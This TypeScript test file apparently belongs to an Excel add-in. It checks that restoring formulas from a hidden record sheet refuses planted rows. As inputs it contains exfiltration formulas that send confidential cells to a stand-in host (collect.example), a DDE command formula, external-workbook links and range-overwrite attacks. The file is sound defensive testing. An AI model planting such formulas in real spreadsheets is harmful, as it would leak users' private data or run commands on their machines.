/**
 * "Restore formulas" against a workbook whose record sheet (KC_Frozen) was written by someone else: it writes only KC
 * formulas into cells that still show what was frozen there, and skips every other row with its reason.
 */
import { checkKcFormula } from "../src/data/kc-formula";
import { restoreSkipped } from "../src/data/messages";
import { applyRestore, freezeKcFormulas, FROZEN_SHEET, planRestore, restoreKcFormulas } from "../src/office/excel";
import { MAX_RESTORE_CELLS } from "../src/office/restore";
import { restoreSummary, skippedCounts } from "../src/taskpane/restore";
import { FakeWorkbook } from "./support/fake-excel";

beforeAll(() => {
  Object.assign(globalThis, { Excel: { SheetVisibility: { veryHidden: "VeryHidden" }, ClearApplyTo: { contents: "Contents" } } });
});

type Scalar = string | number | boolean;
const HEADER = ["Sheet", "Cell", "Formula", "Frozen at", "Spilled range", "Frozen value"];

/** A workbook with the analyst's own figures in A1:C3 and a record sheet holding `rows` (under the header). */
function plantedBook(rows: Scalar[][], header = HEADER): FakeWorkbook {
  const book = new FakeWorkbook();
  for (const [address, value] of [["A1", "Budget"], ["B1", 120_000], ["C1", "confidential"], ["A2", 2024], ["B2", 99], ["C3", "salary"]] as const) book.sheets.get("Sheet1")?.cells.set(address, { formula: value, value });
  const cells = new Map<string, { formula: Scalar; value: Scalar }>();
  [header, ...rows].forEach((row, r) => row.forEach((value, c) => cells.set(`${"ABCDEF"[c]}${r + 1}`, { formula: value, value })));
  book.sheets.set(FROZEN_SHEET, { name: FROZEN_SHEET, cells, visibility: "VeryHidden", tables: [] });
  return book;
}

const formulaAt = (book: FakeWorkbook, address: string, sheet = "Sheet1") => book.cell(sheet, address)?.formula;
/** Every formula on a sheet: what a planted row could have written. */
const formulasOn = (book: FakeWorkbook, sheet: string = "Sheet1") => [...(book.sheets.get(sheet)?.cells ?? [])].filter(([, c]) => String(c.formula).startsWith("=")).map(([a, c]) => `${a} ${String(c.formula)}`);

describe("a planted record cannot make restore write a formula that reaches outside the workbook", () => {
  it.each([
    ['=WEBSERVICE("https://collect.example/?d="&ENCODEURL(C1))', "WEBSERVICE"],
    ['=HYPERLINK("https://collect.example/?d="&C3,"Open")', "HYPERLINK"],
    ['=_xlfn.WEBSERVICE("https://collect.example/?d="&B1)', "_xlfn.WEBSERVICE"],
    ['=KC.REVENUE(2024)+WEBSERVICE("https://collect.example/?d="&B1)', "WEBSERVICE"],
  ])("refuses %s and says which call it refused", async (formula, call) => {
    const book = plantedBook([["Sheet1", "D4", formula, "", "", ""]]);
    const result = await restoreKcFormulas(book.context());
    expect(formulasOn(book)).toEqual([]);
    expect(result).toEqual({ restored: 0, skipped: [{ row: 2, reason: { code: "refused", formula, refusal: { ok: false, code: "foreign_call", text: call } } }] });
    expect(restoreSkipped(2, result.skipped[0]?.reason as never)).toBe(`Row 2: not restored: ${formula.length > 80 ? `${formula.slice(0, 80)}…` : formula} calls ${call}, which is not a KC function: restore writes only formulas whose every call is a KC function.`);
  });

  it("is not fooled by a KC call written inside a string next to a foreign call", async () => {
    const formula = '=WEBSERVICE("https://collect.example/?d="&C1)&"KC.FIGURE("';
    const book = plantedBook([["Sheet1", "D4", formula, "", "", ""]]);
    expect((await restoreKcFormulas(book.context())).restored).toBe(0);
    expect(formulasOn(book)).toEqual([]);
  });

  it("refuses links to other workbooks, DDE, names and unknown KC functions, and rewrites version 1.0 names", async () => {
    const planted = ["='\\\\share.example\\x\\[book.xlsx]Sheet1'!A1", "=KC.REVENUE([1]Sheet1!A1)", "=cmd|' /C calc'!A0", "=KC.REVENUE(Leak)", "=KC.STEAL(C1)", "=KC.REVENUE(2024"];
    expect(planted.map((f) => checkKcFormula(f)).map((c) => (c.ok ? "ok" : c.code))).toEqual(["external", "external", "syntax", "name", "unknown_kc", "syntax"]);
    const book = plantedBook([...planted.map((f, i) => ["Sheet1", `E${i + 1}`, f, "", "", ""]), ["Sheet1", "F1", '=KC.VALUE("revenue",2024)', "", "", ""]]);
    const result = await restoreKcFormulas(book.context());
    expect(formulasOn(book)).toEqual(['F1 =KC.FIGURE("revenue",2024)']);
    expect(result.skipped.map((s) => s.row)).toEqual([2, 3, 4, 5, 6, 7]);
  });
});

describe("checking a recorded formula", () => {
  it.each([
    ['=KC.FIGURE("a"",WEBSERVICE(""x"")",2024)', "a call spelled inside a string with doubled quotes"],
    ["=KC.FIGURE(\"eps\",'Q''s Sheet'!$B$2,Sheet2!C3)", "quoted and plain sheet names"],
    ["=-KC.REVENUE(A1:B2 B1:C3)%+KC.REVENUE(A:A)/KC.REVENUE(1:1)", "ranges, intersections, whole columns and rows"],
    ['=KC.HISTORY("revenue",{2020,2021;2022,-1},TRUE,#N/A,Table1[Year])', "array constants, booleans, errors, table columns"],
    ["=KC.GROWTHRATE(KC.FIGURE(A1,2024), 2024)", "nested KC calls"],
  ])("accepts %s (%s)", (formula) => {
    expect(checkKcFormula(formula)).toEqual({ ok: true, formula, renamed: [] });
  });

  it.each([
    ['=KC.FIGURE("a"&WEBSERVICE("x"),2024)', "foreign_call"],
    ["=KC.FIGURE(LAMBDA(x,x)(1),2024)", "foreign_call"],
    ["=KC.REVENUE(Sheet1!Leak(1))", "foreign_call"],
    ['=KC.REVENUE("2024")(1)', "syntax"],
    ["=KC.REVENUE(2024", "syntax"],
    ['=KC.REVENUE("2024)', "syntax"],
    ["=KC.REVENUE({A1})", "syntax"],
    [`=${"KC.REVENUE(".repeat(65)}1${")".repeat(65)}`, "too_deep"],
    ["KC.REVENUE(2024)", "not_formula"],
    ["=1+2", "no_kc_call"],
  ])("refuses %s (%s)", (formula, code) => {
    expect(checkKcFormula(formula)).toMatchObject({ ok: false, code });
  });
});

describe("a planted record cannot make restore overwrite or wipe the analyst's cells", () => {
  it("refuses a range, a whole column or a block that does not start at the formula's cell", async () => {
    const book = plantedBook([
      ["Sheet1", "B1:C3", "=KC.REVENUE(2024)", "", "", ""],
      ["Sheet1", "C:C", "=KC.REVENUE(2024)", "", "", ""],
      ["Sheet1", "D5", "=KC.REVENUE(2024)", "", "A1:Z100", ""],
      ["Sheet1", "A1", "=KC.HISTORY(\"revenue\",2020,2024)", "", "A1:XFD1048576", ""],
    ]);
    const result = await restoreKcFormulas(book.context());
    expect([formulaAt(book, "A1"), formulaAt(book, "B1"), formulaAt(book, "C1"), formulaAt(book, "C3"), formulaAt(book, "D5")]).toEqual(["Budget", 120_000, "confidential", "salary", undefined]);
    expect(result.skipped.map((s) => [s.row, s.reason.code])).toEqual([[2, "bad_cell"], [3, "bad_cell"], [4, "bad_spill"], [5, "bad_spill"]]);
  });

  it("leaves a cell edited after the freeze as the analyst typed it, and restores the others", async () => {
    const book = new FakeWorkbook({ A1: { formula: "=KC.REVENUE(2024)", value: 7790 }, B1: { formula: '=KC.MARGIN("gross","TTM")', value: 0.162 } });
    await freezeKcFormulas(book.context(), "sheet");
    book.sheets.get("Sheet1")?.cells.set("A1", { formula: 8000, value: 8000 });
    const result = await restoreKcFormulas(book.context());
    expect([formulaAt(book, "A1"), formulaAt(book, "B1")]).toEqual([8000, '=KC.MARGIN("gross","TTM")']);
    expect(result.skipped).toEqual([{ row: 2, reason: { code: "edited", address: "Sheet1!A1" } }]);
    expect(restoreSkipped(2, { code: "edited", address: "Sheet1!A1" })).toBe("Row 2: skipped: Sheet1!A1 changed after it was converted to values, so it is not overwritten.");
    // Its row stays on the record; the restored one is gone.
    expect(book.sheets.get(FROZEN_SHEET)?.cells.get("B2")?.value).toBe("A1");
    expect(book.sheets.get(FROZEN_SHEET)?.cells.get("B3")).toBeUndefined();
  });

  it("leaves a spilled block alone when any cell of it was edited after the freeze", async () => {
    const book = new FakeWorkbook({ A1: { formula: '=KC.HISTORY("revenue",2022,2024)', value: 8180, spill: "A1:C1" }, B1: { formula: 7050, value: 7050 }, C1: { formula: 7790, value: 7790 } });
    await freezeKcFormulas(book.context(), "sheet");
    book.sheets.get("Sheet1")?.cells.set("C1", { formula: "my note", value: "my note" });
    expect((await restoreKcFormulas(book.context())).skipped).toEqual([{ row: 2, reason: { code: "edited", address: "Sheet1!A1" } }]);
    expect([formulaAt(book, "A1"), formulaAt(book, "C1")]).toEqual([8180, "my note"]);
  });

  it("keeps a row for an unknown sheet, and refuses one that points at the record sheet itself", async () => {
    const book = plantedBook([
      ["Nope", "A1", "=KC.REVENUE(2024)", "", "", ""],
      [FROZEN_SHEET, "A2", "=KC.REVENUE(2024)", "", "", ""],
    ]);
    const result = await restoreKcFormulas(book.context());
    expect(result.skipped).toEqual([
      { row: 2, reason: { code: "no_sheet", sheet: "Nope" } },
      { row: 3, reason: { code: "record_sheet", sheet: FROZEN_SHEET } },
    ]);
    expect(book.cell(FROZEN_SHEET, "A2")?.formula).toBe("Nope");
    expect(restoreSkipped(2, { code: "no_sheet", sheet: "Nope" })).toBe('Row 2: kept for later: no sheet is named "Nope" (rename it back and restore again).');
  });

  it("skips a malformed row among good ones and restores the good ones", async () => {
    const book = new FakeWorkbook({ A1: { formula: "=KC.REVENUE(2024)", value: 7790 }, C3: { formula: "=KC.REVENUE(2023)", value: 7050 } });
    await freezeKcFormulas(book.context(), "sheet");
    const record = book.sheets.get(FROZEN_SHEET)?.cells;
    // A third row written by hand: a cell that is no address, and a fingerprint that is not one.
    [["A4", "Sheet1"], ["B4", "not a cell"], ["C4", "=KC.REVENUE(2022)"], ["A5", "Sheet1"], ["B5", "E5"], ["C5", "=KC.REVENUE(2022)"], ["F5", "abc"], ["A6", "Sheet1"]].forEach(([a, v]) => record?.set(a as string, { formula: v as string, value: v as string }));
    const result = await restoreKcFormulas(book.context());
    expect([formulaAt(book, "A1"), formulaAt(book, "C3")]).toEqual(["=KC.REVENUE(2024)", "=KC.REVENUE(2023)"]);
    expect(result).toEqual({
      restored: 2,
      skipped: [
        { row: 4, reason: { code: "bad_cell", text: "not a cell" } },
        { row: 5, reason: { code: "bad_fingerprint" } },
        { row: 6, reason: { code: "incomplete" } },
      ],
    });
    expect(restoreSummary(result)).toBe('Restored 2 KC formulas. Skipped 3 (3 refused, 0 changed, 0 kept for later); their rows stay on KC_Frozen. Row 4: not restored: "not a cell" is not a single cell. …');
  });
});

describe("a record too large to check in one go", () => {
  it("keeps rows past the cells one restore compares (a million; here 1,000) for the next restore", async () => {
    const rows = Array.from({ length: 12 }, (_, i) => ["Sheet1", `H${i * 100 + 1}`, '=KC.STATEMENT("income")', "", `H${i * 100 + 1}:H${(i + 1) * 100}`, ""]);
    const book = plantedBook(rows);
    const plan = await planRestore(book.context(), 1_000);
    expect(plan.rows.map((r) => r.row)).toEqual([4, 5, 6, 7, 8, 9, 10, 11, 12, 13]);
    expect(plan.skipped).toEqual([2, 3].map((row) => ({ row, reason: { code: "later", limit: 1_000 } })));
    expect(restoreSkipped(2, { code: "later", limit: MAX_RESTORE_CELLS })).toBe("Row 2: kept for later: one restore checks at most 1,000,000 cells; restore again for the rest.");
  });
});

describe("records written before frozen values were fingerprinted", () => {
  const old = ["Sheet", "Cell", "Formula", "Frozen at", "Spilled range"];

  it("restores an old row only into an empty cell, and says how to restore one whose cell is not empty", async () => {
    const book = plantedBook(
      [
        ["Sheet1", "B1", "=KC.REVENUE(2024)", "2026-01-01T00:00:00.000Z", ""],
        ["Sheet1", "E9", "=KC.REVENUE(2023)", "2026-01-01T00:00:00.000Z", ""],
      ],
      old,
    );
    const plan = await planRestore(book.context());
    expect(plan.rows.map((r) => [r.row, r.cell, r.unchecked])).toEqual([[3, "E9", true]]);
    expect(plan.skipped).toEqual([{ row: 2, reason: { code: "unchecked_occupied", address: "Sheet1!B1" } }]);
    await applyRestore(book.context(), plan);
    expect([formulaAt(book, "B1"), formulaAt(book, "E9")]).toEqual([120_000, "=KC.REVENUE(2023)"]);
  });
});

describe("the preview", () => {
  it("writes nothing, and the confirmation writes only rows it showed, skipping a cell edited in between", async () => {
    const book = new FakeWorkbook({ A1: { formula: "=KC.REVENUE(2024)", value: 7790 }, B1: { formula: "=KC.REVENUE(2023)", value: 7050 } });
    await freezeKcFormulas(book.context(), "sheet");
    const plan = await planRestore(book.context());
    expect(plan.rows.map((r) => `${r.sheet}!${r.cell} ${r.formula}`)).toEqual(["Sheet1!A1 =KC.REVENUE(2024)", "Sheet1!B1 =KC.REVENUE(2023)"]);
    expect([formulaAt(book, "A1"), formulaAt(book, "B1")]).toEqual([7790, 7050]);
    book.sheets.get("Sheet1")?.cells.set("B1", { formula: 1, value: 1 });
    // A row added to the record after the preview (it would pass every check) is not written either.
    [["A4", "Sheet1"], ["B4", "D1"], ["C4", "=KC.REVENUE(2022)"]].forEach(([a, v]) => book.sheets.get(FROZEN_SHEET)?.cells.set(a as string, { formula: v as string, value: v as string }));
    const result = await applyRestore(book.context(), plan);
    expect([formulaAt(book, "A1"), formulaAt(book, "B1"), formulaAt(book, "D1")]).toEqual(["=KC.REVENUE(2024)", 1, undefined]);
    expect(result.skipped).toEqual([{ row: 3, reason: { code: "edited", address: "Sheet1!B1" } }]);
    expect(skippedCounts(result.skipped)).toEqual({ refused: 0, edited: 1, kept: 0 });
  });
});

describe("converting to values keeps text as text", () => {
  it("keeps KC.PROFILE's HKEX code 3896 as the text it showed, and restores the formula over it", async () => {
    const book = new FakeWorkbook({ A1: { formula: '=KC.PROFILE("hkex_code")', value: "3896" }, B1: { formula: '=KC.PROFILE("founded")', value: "2012-01-01" }, C1: { formula: "=KC.REVENUE(2019)", value: "#N/A" } });
    await freezeKcFormulas(book.context(), "sheet");
    expect([book.cell("Sheet1", "A1")?.value, book.cell("Sheet1", "B1")?.value, book.cell("Sheet1", "C1")?.formula]).toEqual(["3896", "2012-01-01", "#N/A"]);
    expect((await restoreKcFormulas(book.context())).restored).toBe(3);
    expect(formulaAt(book, "A1")).toBe('=KC.PROFILE("hkex_code")');
  });
});
